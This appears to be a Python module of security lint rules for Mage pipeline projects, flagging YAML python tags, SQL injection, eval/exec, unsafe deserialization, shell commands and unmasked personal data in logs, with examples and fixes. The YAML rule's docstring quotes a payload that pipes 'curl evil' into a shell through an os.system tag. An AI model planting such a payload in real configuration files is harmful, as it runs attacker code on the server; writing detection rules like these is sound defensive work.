"""Security rules: risky code in blocks and YAML (injection, eval, unsafe loading, PII in logs)."""
from __future__ import annotations

from auditkit.rules.base import register
from auditkit.rules.security.base import CODE, SecurityRule

class _CodeRiskRule(SecurityRule):
    kinds: tuple[str, ...] = ()

    def check(self):
        for row in self.frame_rows("code_risks", kind=self.kinds):
            yield self.finding(row["detail"], key=(row["kind"], row.get("line")), project=row.get("project"),
                               path=row["path"], line=row.get("line"),
                               evidence=f"check={row['test_id']}")


@register
class YamlPythonTag(_CodeRiskRule):
    """A YAML file holds a ``!!python/`` tag.

    What it checks:
        Every ``.yaml``/``.yml`` file of the repo for ``!!python/...`` tags.

    Why it matters:
        Mage loads pipeline and project YAML with PyYAML's unsafe loader, so the tag runs
        code inside the Mage server when the file is loaded.

    Example:
        ``description: !!python/object/apply:os.system ["curl evil | sh"]``.

    Fix:
        Remove the tag; YAML config needs only plain values.
    """

    id = "MAGE-SEC-012"
    name = "yaml-python-tag"
    title = "YAML with a !!python tag"
    severity = "high"
    practices = CODE
    kinds = ("yaml_python_tag",)


@register
class SqlBuiltFromStrings(_CodeRiskRule):
    """A query call receives SQL built with f-strings, ``%``, ``.format`` or ``+``.

    What it checks:
        Calls such as ``execute``, ``read_sql``, ``query``, ``load`` or ``text`` whose SQL
        argument (directly or through a variable of the same function) is built from run-time
        values.

    Why it matters:
        Values spliced into SQL can change the statement (SQL injection) and break on quotes;
        the guide asks for parameterized queries.

    Example:
        ``pd.read_sql(f"SELECT * FROM customers WHERE id = {customer_id}", engine)``.

    Fix:
        ``pd.read_sql("SELECT * FROM customers WHERE id = :id", engine, params={"id": customer_id})``.
    """

    id = "MAGE-SEC-013"
    name = "sql-built-from-strings"
    title = "SQL built from strings passed to a query"
    severity = "medium"
    practices = CODE
    kinds = ("sql_injection",)


@register
class DynamicCodeExecution(_CodeRiskRule):
    """A block calls ``eval`` or ``exec`` (bandit B307, B102).

    What it checks:
        ``eval(...)`` and ``exec(...)`` calls in Python files of Mage projects.

    Why it matters:
        Text that reaches them runs as code with the pipeline's credentials; the guide says
        never to execute input.

    Example:
        ``eval(rule['expression'])`` to apply business rules.

    Fix:
        Parse data with ``ast.literal_eval`` or ``json``; map rule names to functions.
    """

    id = "MAGE-SEC-014"
    name = "dynamic-code-execution"
    title = "eval or exec in block code"
    severity = "medium"
    practices = CODE
    kinds = ("dynamic_code",)


@register
class UnsafeDeserialization(_CodeRiskRule):
    """A block loads pickle data or YAML with an unsafe loader (bandit B301, B506).

    What it checks:
        ``pickle``/``dill``/``shelve`` loads and ``yaml.load`` without a safe loader.

    Why it matters:
        Both construct arbitrary objects, so a tampered input file runs code.

    Example:
        ``model = pickle.loads(blob)`` on a file downloaded from a bucket.

    Fix:
        Use Parquet/JSON for data, ``yaml.safe_load`` for YAML, and verify model artefacts.
    """

    id = "MAGE-SEC-015"
    name = "unsafe-deserialization"
    title = "Unsafe pickle or YAML loading"
    severity = "medium"
    practices = CODE
    kinds = ("unsafe_deserialization", "unsafe_yaml_load")


@register
class ShellCommand(_CodeRiskRule):
    """A block starts a process through a shell (bandit B602, B604, B605).

    What it checks:
        ``subprocess`` calls with ``shell=True``, ``os.system`` and ``os.popen``.

    Why it matters:
        Values in the command line are interpreted by the shell (command injection).

    Example:
        ``subprocess.run(f"gsutil cp {path} .", shell=True)``.

    Fix:
        Pass an argument list without a shell: ``subprocess.run(["gsutil", "cp", path, "."])``.
    """

    id = "MAGE-SEC-016"
    name = "shell-command"
    title = "Process started through a shell"
    severity = "medium"
    practices = CODE
    kinds = ("shell_command",)


@register
class PersonalDataInLogs(_CodeRiskRule):
    """A logging or ``print`` call writes email, phone or name fields unmasked.

    What it checks:
        Arguments of ``logger.*``/``logging.*``/``print`` calls that use variables,
        attributes or columns named like personal data (email, phone, first/last/full name)
        outside a hashing or masking call.

    Why it matters:
        Block logs are kept on disk and shipped to log stores; the guide asks to mask PII in
        logs (GDPR/CCPA).

    Example:
        ``logger.info(f"processing {row['email']}")``.

    Fix:
        Log an id or a hash: ``hashlib.sha256(email.encode()).hexdigest()[:8]``.
    """

    id = "MAGE-SEC-017"
    name = "personal-data-in-logs"
    title = "Personal data written to logs"
    severity = "medium"
    practices = ("BP-SECURITY-PII",)
    kinds = ("pii_in_logs",)


